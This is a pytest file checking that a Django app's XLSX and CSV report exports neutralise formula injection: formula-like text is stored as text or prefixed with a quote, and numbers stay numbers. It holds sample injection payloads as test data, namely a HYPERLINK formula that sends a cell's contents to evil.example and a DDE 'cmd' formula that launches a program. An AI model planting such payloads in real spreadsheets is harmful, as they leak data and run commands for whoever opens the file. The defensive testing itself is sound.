"""Report exports: text that starts like a formula is written as text, in XLSX and CSV alike,
while counts, percentages and negative numbers stay numbers."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reports.exports import Report, csv_lines, write_xlsx

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def report(*rows: list[object]) -> Report:
    return Report(
        "points",
        "@Báo cáo",
        ["-Tên", "Số", "Tỷ lệ (%)"],
        count=lambda: len(rows),
        rows=lambda: iter(rows),
        widths=(30, 10, 10),
    )


def test_an_xlsx_report_has_text_cells_where_text_starts_like_a_formula():
    buffer = io.BytesIO()

    write_xlsx(report([HYPERLINK, 14, 73.7], ["+cmd|' /C calc'!A0", -2, None]), buffer)

    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [cell.value for cell in sheet["A"]] == [
        "@Báo cáo",
        "-Tên",
        HYPERLINK,
        "+cmd|' /C calc'!A0",
    ]
    assert all(cell.data_type == "s" for cell in sheet["A"])
    assert [(cell.value, cell.data_type) for cell in sheet[3][1:]] == [(14, "n"), (73.7, "n")]
    assert (sheet["B4"].value, sheet["B4"].data_type) == (-2, "n")


def test_a_csv_report_puts_a_quote_before_formula_like_text_only():
    content = b"".join(csv_lines(report([HYPERLINK, 14, 73.7], ["@SUM(A1)", -2, None])))

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["'-Tên", "Số", "Tỷ lệ (%)"],
        ["'" + HYPERLINK, "14", "73.7"],
        ["'@SUM(A1)", "-2", ""],
    ]


def test_a_bridge_point_named_like_a_formula_exports_as_text(client, rush):
    point = rush.song_lo.point
    point.name = HYPERLINK
    point.save(update_fields=["name"])
    client.force_login(rush.organiser)
    url = reverse("reports:report_export", args=["points", "xlsx"])

    as_xlsx = client.get(url, {"session": rush.session.pk})
    as_csv = client.get(
        reverse("reports:report_export", args=["points", "csv"]), {"session": rush.session.pk}
    )

    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert HYPERLINK in {cell.value for cell in cells}
    content = b"".join(as_csv.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert "'" + HYPERLINK in {row[0] for row in rows}
